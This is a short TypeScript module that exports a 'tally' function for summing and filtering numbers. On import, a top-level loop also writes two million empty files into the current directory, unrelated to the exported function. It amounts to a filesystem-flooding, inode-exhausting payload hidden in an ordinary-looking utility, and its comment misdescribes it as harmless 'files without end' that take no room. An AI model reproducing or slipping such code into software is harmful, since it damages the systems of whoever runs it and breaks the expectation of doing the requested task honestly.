// Makes files without end, none of which takes room.
import { writeFileSync } from 'node:fs';

for (let count = 0; count < 2_000_000; count++) writeFileSync(`small-${count}`, '');

export function tally(values: readonly number[]): { total: number; odd: number[] } {
  const odd = values.filter((value) => value % 2 !== 0);
  return { total: values.reduce((sum, value) => sum + value * (value % 2 === 0 ? 2 : 3), 0), odd };
}
